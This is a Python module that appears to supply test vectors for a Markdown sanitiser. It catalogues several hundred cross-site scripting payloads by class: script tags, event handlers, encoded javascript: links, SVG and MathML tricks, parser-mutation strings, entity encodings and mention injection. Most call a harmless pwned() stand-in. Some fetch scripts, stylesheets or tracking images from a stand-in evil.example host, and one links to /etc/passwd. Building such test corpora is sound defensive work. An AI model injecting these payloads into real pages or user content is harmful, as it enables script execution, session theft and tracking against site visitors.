"""Markdown by which somebody might try to run a script in another's page: the known classes, written for this project.

Each calls `pwned()`, or would load something from elsewhere, if any of it got through.
"""

from itertools import product
from typing import Final

__all__ = ["CLASSES", "VECTORS"]

_RUN: Final = "pwned()"

_SCRIPTS: Final = (
    f"<script>{_RUN}</script>",
    f"<SCRIPT>{_RUN}</SCRIPT>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script >{_RUN}</script >",
    f"<script\n>{_RUN}</script\n>",
    f"<script/x>{_RUN}</script>",
    f"<script\t src=data:,{_RUN}></script>",
    "<script src=//evil.example/x.js></script>",
    f"<script type=module>{_RUN}</script>",
    f"<script>//\n{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<<script>{_RUN}//<</script>",
    f"<script>{_RUN}",
    f"\n\n<script>\n{_RUN}\n</script>\n\n",
    f"- <script>{_RUN}</script>",
    f"> <script>{_RUN}</script>",
    f"# <script>{_RUN}</script>",
    f"`<script>{_RUN}</script>`",
    f"```html\n<script>{_RUN}</script>\n```",
    f"``` <script>{_RUN}</script>\ntext\n```",
    f"    <script>{_RUN}</script>",
    f"<!--<script>{_RUN}</script>-->",
    f"<!-- --!><script>{_RUN}</script>",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<?xml <script>{_RUN}</script>?>",
    f"</p><script>{_RUN}</script>",
    f"</span></p></div><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"|a|\n|-|\n|<script>{_RUN}</script>|",
)

_TAGS: Final = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "iframe",
    "input autofocus",
    "details open",
    "a",
)
_EVENTS: Final = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart")
_HANDLERS: Final = (
    *(f"<{tag} {event}={_RUN}>" for tag, event in product(_TAGS, _EVENTS)),
    f"<img src=x onerror='{_RUN}'>",
    f'<img src=x onerror="{_RUN}"',
    f"<img/src=x/onerror={_RUN}>",
    f"<img src=x\nonerror\n=\n{_RUN}>",
    f"<img src=x oNeRrOr={_RUN}>",
    f"<img src=x onerror&#61;{_RUN}>",
    f"<img src=`x`onerror={_RUN}>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<select autofocus onfocus={_RUN}>",
    f"<p onclick={_RUN}>click</p>",
    f"<span class=mention onclick={_RUN}>@Ada</span>",
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={_RUN}>x</b>",
)

_TARGETS: Final = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"java&#9;script:{_RUN}",
    f"java&Tab;script:{_RUN}",
    f"java&NewLine;script:{_RUN}",
    f"&#106;avascript:{_RUN}",
    f"&#x6A;avascript:{_RUN}",
    f"&#0000106avascript:{_RUN}",
    f"javascript&colon;{_RUN}",
    f"javascript&#58;{_RUN}",
    f"javascript%3A{_RUN}",
    f"%6Aavascript:{_RUN}",
    f" javascript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"\u00a0javascript:{_RUN}",
    f"\u200bjavascript:{_RUN}",
    f"javascript://evil.example/%0A{_RUN}",
    f"vbscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
    f"data:image/svg+xml,<svg onload={_RUN}>",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    f"view-source:javascript:{_RUN}",
)
_FORMS: Final = ("[click]({})", "[click](<{}>)", "<{}>", "![picture]({})", "[click][1]\n\n[1]: {}")
_LINKS: Final = tuple(form.format(target) for form, target in product(_FORMS, _TARGETS))

_FOREIGN: Final = (
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><script xlink:href=data:,{_RUN} /></svg>",
    f"<svg><a xlink:href=javascript:{_RUN}><text y=20>x</text></a></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=onmouseover to={_RUN}>",
    f"<svg><foreignObject><body onload={_RUN}></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwned()>#x'/></svg>",
    "<svg><image href=//evil.example/x.png></svg>",
    f"<svg><style><img src=x onerror={_RUN}></style></svg>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    f"<math href=javascript:{_RUN}>click</math>",
    f"<math><maction actiontype=statusline#http://x xlink:href=javascript:{_RUN}>x</maction></math>",
    f"<math><annotation-xml encoding=text/html><script>{_RUN}</script></annotation-xml></math>",
    f"<embed src=javascript:{_RUN}>",
    f"<object data=javascript:{_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'>",
    f"<iframe src=javascript:{_RUN}>",
    f"<form action=javascript:{_RUN}><button>x</button></form>",
    f"<button form=x formaction=javascript:{_RUN}>x</button>",
    f"<base href=javascript:{_RUN}//>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{background:url(//evil.example/x.png)}</style>",
    "<p style=background:url(//evil.example/x.png)>x</p>",
    "<img src=//evil.example/seen.png>",
    "![seen](https://evil.example/seen.png)",
    "![seen](//evil.example/seen.png)",
    "[![seen](https://evil.example/seen.png)](https://evil.example)",
)

_MUTATIONS: Final = (
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={_RUN}&gt;'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={_RUN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f"<math><mi><xmp></math><img src=x onerror={_RUN}></xmp></mi></math>",
    f"<listing>&lt;img src=x onerror={_RUN}&gt;</listing>",
    f"<xmp></xmp><img src=x onerror={_RUN}>",
    f"<template><img src=x onerror={_RUN}></template>",
    f"<textarea></textarea><img src=x onerror={_RUN}>",
    f"<svg><desc><table><style></desc><img src=x onerror={_RUN}></style></table></svg>",
    f"<a title='`<img src=x onerror={_RUN}>`'>x</a>",
    f"<p id='&lt;img src=x onerror={_RUN}&gt;'>x</p>",
    f"<table><td><img src=x onerror={_RUN}></table>",
    f"<select><template><style></select><img src=x onerror={_RUN}></style></template>",
    f"<plaintext><img src=x onerror={_RUN}>",
    f"<div><![if gte IE 4]><script>{_RUN}</script><![endif]></div>",
)

_TRICKS: Final = (
    f'[a](https://x.example "onmouseover={_RUN}")',
    f'[a](https://x.example "\\" onmouseover={_RUN} x=\\"")',
    f"[a](https://x.example 'x\" onmouseover=\"{_RUN}')",
    f'[a](https://x.example"onmouseover="{_RUN})',
    f"[a](<https://x.example\\> onmouseover={_RUN}>)",
    f'[a]: https://x.example "\\" onmouseover={_RUN} x=\\""\n\n[a]',
    f"[a](https://x.example#`onmouseover={_RUN}`)",
    f"[<img src=x onerror={_RUN}>](https://x.example)",
    f"![<img src=x onerror={_RUN}>](https://x.example)",
    f'![" onerror={_RUN} x="](https://x.example)',
    f"[![a](javascript:{_RUN})](javascript:{_RUN})",
    f"[[a](javascript:{_RUN})](https://x.example)",
    f"[a](javascript:{_RUN} 'https://x.example')",
    f"[a]\n\n[a]: javascript:{_RUN}\n[a]: https://x.example",
    f"[a](\\javascript:{_RUN})",
    f"[a](java\\script:{_RUN})",
    f"*<img src=x onerror={_RUN}>*",
    f"**<b onclick={_RUN}>x**</b>",
    f"~~<s onclick={_RUN}>x</s>~~",
    f"``\\`<img src=x onerror={_RUN}>``",
    f'``` "onmouseover={_RUN}\nx\n```',
    f"~~~html'><img src=x onerror={_RUN}>\nx\n~~~",
    f"1. <img src=x onerror={_RUN}>\n   <script>{_RUN}</script>",
    f"| <img src=x onerror={_RUN}> | a |\n|:--|--:|\n| [a](javascript:{_RUN}) | `|` |",
    f"https://x.example/<script>{_RUN}</script>",
    f'<https://x.example/"onmouseover={_RUN}>',
    f"<https://x.example/'onmouseover={_RUN}>",
    f'<ada@example.com?"onmouseover={_RUN}>',
    f'[a](mailto:"onmouseover={_RUN}@x.example)',
    f"\\<script>{_RUN}\\</script>",
    f"\\\\<script>{_RUN}</script>",
)

_ENTITIES: Final = (
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"&#x3c;script&#x3e;{_RUN}&#x3c;/script&#x3e;",
    f"&LT;script&GT;{_RUN}&LT;/script&GT;",
    f"&amp;lt;script&amp;gt;{_RUN}",
    f"&amp;#60;img src=x onerror={_RUN}&amp;#62;",
    f"&#0;<script>{_RUN}</script>",
    f"&#xFFFFFFFF;<script>{_RUN}</script>",
    f"\ufeff<script>{_RUN}</script>",
    f"\u2028<script>{_RUN}</script>",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"[a](&quot;onmouseover={_RUN}&quot;)",
    f"[a](https://x.example&quot;onmouseover={_RUN}&quot;)",
)

_MENTIONS: Final = (
    "@<img src=x onerror=pwned()>",
    "@{name}",
    "[@{name}](https://x.example)",
    "[a](https://x.example '@{name}')",
    "`@{name}`",
    "```\n@{name}\n```",
    "| @{name} |\n|-|\n| @{name} |",
    "**@{name}**<span class=mention data-user='\"><script>pwned()</script>'>x</span>",
    '<@"><img src=x onerror=pwned()>',
    '<@00000000-0000-0000-0000-000000000000"onmouseover=pwned()>',
)
"""`{name}` is that of a member whose name is a vector itself."""

CLASSES: Final = {
    "scripts": _SCRIPTS,
    "handlers": _HANDLERS,
    "links": _LINKS,
    "foreign content": _FOREIGN,
    "mutations": _MUTATIONS,
    "tricks": _TRICKS,
    "entities": _ENTITIES,
    "mentions": _MENTIONS,
}
VECTORS: Final = tuple(vector for vectors in CLASSES.values() for vector in vectors)
